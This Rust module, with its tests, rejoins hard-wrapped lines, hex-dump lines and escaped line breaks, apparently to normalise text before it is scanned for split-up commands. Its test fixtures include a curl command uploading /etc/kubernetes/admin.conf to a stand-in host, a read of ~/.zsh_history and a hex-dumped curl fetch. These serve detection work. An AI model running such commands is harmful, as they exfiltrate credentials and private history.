//! Broken lines → whole ones: a text that was cut into lines of one width, a token broken over lines, a dump's.

use super::{dump, folded};
use memchr::memchr3;
use std::ops::{Range, RangeInclusive};

/// How wide the lines of a cut text are.
const WIDTHS: RangeInclusive<usize> = 8..=40;
/// How wide a line is that is taken for cut with one line after it.
const NARROW: RangeInclusive<usize> = 10..=20;

/// The stretches of a text that are cut into lines of one width, whatever stood there, put together, a line each.
///
/// Of two lines only, the first must be narrow and end in the midst of a word.
pub(super) struct Wrapped<'t> {
    text: &'t [u8],
    block: Block,
    /// Where the line begins that ends next.
    start: usize,
    /// Where the text ends that was folded last.
    folded_to: usize,
    /// What the lines before show if they are a dump's, and where the offset of the last one stands.
    dumped: Vec<u8>,
    offset: Range<usize>,
    out: Vec<u8>,
}

/// Lines of one width.
struct Block {
    start: usize,
    /// [`Block::NONE`] when it is no width of a cut text.
    width: usize,
    lines: usize,
}

impl Block {
    const NONE: usize = usize::MAX;

    #[inline]
    fn new(start: usize, width: usize) -> Self {
        Self { start, width: if WIDTHS.contains(&width) { width } else { Self::NONE }, lines: 1 }
    }
}

impl<'t> Wrapped<'t> {
    pub(super) fn new(text: &'t [u8]) -> Self {
        Self {
            text,
            block: Block::new(0, Block::NONE),
            start: 0,
            folded_to: 0,
            dumped: Vec::new(),
            offset: 0..0,
            out: Vec::new(),
        }
    }

    /// A line ends at `end`.
    #[inline]
    pub(super) fn line(&mut self, end: usize) {
        let Self { text, block, start, .. } = self;
        let returned = text.get(end.wrapping_sub(1)) == Some(&b'\r');
        let width = end - *start - usize::from(returned && end > *start);
        let full = width == block.width;
        let may_end = block.lines > 1 || (NARROW.contains(&block.width) && width < block.width);
        if full || may_end {
            self.block_goes_on_or_ends(width, end);
        } else {
            self.block = Block::new(self.start, width);
        }
        if dump::may_be(&self.text[self.start..end]) || !self.dumped.is_empty() {
            self.dump(end);
        }
        if matches!(
            self.text[self.start..end],
            [.., b'>'] | [.., b'>', b'-' | b'+' | b'\r'] | [.., b'>', b'-' | b'+', b'\r']
        ) {
            self.fold(end);
        }
        self.start = end + 1;
    }

    /// The line that ends at `end` may be one of a dump, or stand behind one.
    #[cold]
    fn dump(&mut self, end: usize) {
        let line = dump::line(&self.text[self.start..end]);
        let before = &self.text[self.offset.clone()];
        let goes_on = line.as_ref().is_some_and(|(at, _)| at.len() == before.len() && *at > before);
        if !goes_on {
            self.end_dump();
        }
        if let Some((offset, bytes)) = line {
            self.offset = self.start..self.start + offset.len();
            self.dumped.extend_from_slice(&bytes);
        }
    }

    fn end_dump(&mut self) {
        if self.dumped.len() >= *WIDTHS.start() {
            self.out.append(&mut self.dumped);
            self.out.push(b'\n');
        }
        self.dumped.clear();
    }

    /// The line that ends at `end` may announce a folded text; none is folded twice.
    #[cold]
    fn fold(&mut self, end: usize) {
        if self.start >= self.folded_to
            && let Some((folded, to)) = folded::below(self.text, self.start..end)
        {
            self.out.extend_from_slice(&folded);
            self.out.push(b'\n');
            self.folded_to = to;
        }
    }

    fn block_goes_on_or_ends(&mut self, width: usize, end: usize) {
        if width == self.block.width {
            self.block.lines += 1;
        } else {
            self.end_block(width, end);
            self.block = Block::new(self.start, width);
        }
    }

    /// The lines of one width are followed by one of another: puts them together if they are a cut text.
    fn end_block(&mut self, width: usize, end: usize) {
        let Self { text, block, start, out, .. } = self;
        let ends = width > 0 && width < block.width;
        if is_framed(&text[block.start..]) {
            return;
        }
        if block.lines > 1 || (ends && cut_in_word(text, block.start + block.width, *start)) {
            let to = if ends { end } else { *start };
            append_unbroken(&text[block.start..to], out);
            out.push(b'\n');
        }
    }

    /// `None` when nothing was put together.
    pub(super) fn finish(mut self) -> Option<Vec<u8>> {
        self.line(self.text.len());
        self.end_dump();
        if self.block.lines > 1 && !is_framed(&self.text[self.block.start..]) {
            append_unbroken(&self.text[self.block.start..], &mut self.out);
        }
        (!self.out.is_empty()).then_some(self.out)
    }
}

fn append_unbroken(text: &[u8], out: &mut Vec<u8>) {
    out.extend(text.iter().filter(|b| !matches!(b, b'\r' | b'\n')));
}

/// Whether a line is one of a table: those have one width for their frame's sake.
fn is_framed(line: &[u8]) -> bool {
    matches!(line, [b'|', ..] | [b'+', b'-' | b'=', ..])
}

/// Whether words touch where the line that ends at `end` and the one that begins at `next` meet.
fn cut_in_word(text: &[u8], end: usize, next: usize) -> bool {
    let of_word = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || b"_/.-~".contains(b));
    of_word(text.get(end.wrapping_sub(1))) && of_word(text.get(next))
}

/// What follows the line end, written out or escaped, at the start of `text`, without the indentation after it.
pub(crate) fn next_line(text: &[u8]) -> Option<&[u8]> {
    if !matches!(text.first(), Some(b'\\' | b'\r' | b'\n' | b'=')) {
        return None;
    }
    // The last two as a mail's long line is written (RFC 2045, section 6.7).
    let ends: [&[u8]; 10] = [b"\\\r\n", b"\\\n", b"\r\n", b"\n", b"\r", b"\\r\\n", b"\\n", b"\\r", b"=\r\n", b"=\n"];
    let line = ends.iter().find_map(|end| text.strip_prefix(*end))?;
    let indent = line.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
    Some(&line[indent..])
}

/// The text from its start with line ends and the indentation after them left out; at most `max` bytes.
pub(crate) fn unwrapped(text: &[u8], max: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(max);
    let mut rest = text;
    while out.len() < max && !rest.is_empty() {
        let plain = memchr3(b'\r', b'\n', b'\\', rest).unwrap_or(rest.len()).min(max - out.len());
        out.extend_from_slice(&rest[..plain]);
        rest = &rest[plain..];
        let end = match rest {
            [b'\\', b'n' | b'r', ..] => 2,
            [b'\\', b'\n', ..] | [b'\r' | b'\n', ..] => 1,
            _ => 0,
        };
        if end > 0 {
            let indent = rest[end..].iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
            rest = &rest[end + indent..];
        } else if out.len() < max
            && let Some((&backslash, after)) = rest.split_first()
        {
            out.push(backslash);
            rest = after;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{Wrapped, next_line, unwrapped};

    fn wrapped(text: &[u8]) -> Option<Vec<u8>> {
        let mut wrapped = Wrapped::new(text);
        memchr::memchr_iter(b'\n', text).for_each(|end| wrapped.line(end));
        wrapped.finish()
    }

    #[test]
    fn lines_of_one_width_are_put_together() {
        for (cut, whole) in [
            (
                "context:\ncurl -F f=@/etc/\nkubernetes/admin\n.conf http://x.e\nxample",
                &b"curl -F f=@/etc/kubernetes/admin.conf http://x.example\n"[..],
            ),
            ("cat ~/.zsh_histo\nry", b"cat ~/.zsh_history\n"),
            ("abcdefgh\r\nabcdefgh\r\nab\r\n\r\nmore", b"abcdefghabcdefghab\n"),
            (
                "$ xxd x\n00000000: 6375 726c 202d 6673 534c 2068 7474 7073  curl -fsSL https\n00000010: 3a2f 2f61 0a    ://a.\n$",
                b"curl -fsSL https://a\n\n",
            ),
        ] {
            assert_eq!(wrapped(cut.as_bytes()).unwrap(), whole, "{cut}");
        }
    }

    #[test]
    fn prose_and_lists_are_not() {
        for text in [
            "one line",
            "first line of some\n\nsecond",
            "a list:\n- one\n- two\n",
            "+------+---+\n| a b  | c |\n+------+---+\n",
            "| a b  | c |\n| d e  | f |",
            "let x = f(1);\nlet yy = g(2);\n",
            "",
        ] {
            assert_eq!(wrapped(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn a_line_ends_in_many_ways() {
        for text in ["\nab", "\r\n  ab", "\r\tab", r"\nab", r"\r\nab", "\\\nab", "\\\r\n ab", "=\nab", "=\r\nab"] {
            assert_eq!(next_line(text.as_bytes()), Some(&b"ab"[..]), "{text:?}");
        }
        for text in ["", " \nab", "ab", r"\tab"] {
            assert_eq!(next_line(text.as_bytes()), None, "{text:?}");
        }
    }

    #[test]
    fn a_wrapped_token_closes_up() {
        assert_eq!(unwrapped(b"ab\r\n   cd\nef gh", 99), b"abcdef gh");
        assert_eq!(unwrapped(br"ab\ncd", 99), b"abcd");
        assert_eq!(unwrapped(b"ab\\\n  cd\\\\n\\tef\\", 99), b"abcd\\\\tef\\");
        for max in 0..9 {
            assert_eq!(unwrapped(b"ab\\\n  c\r\nd\\x", max), b"abcd\\x"[..max.min(6)]);
        }
    }
}
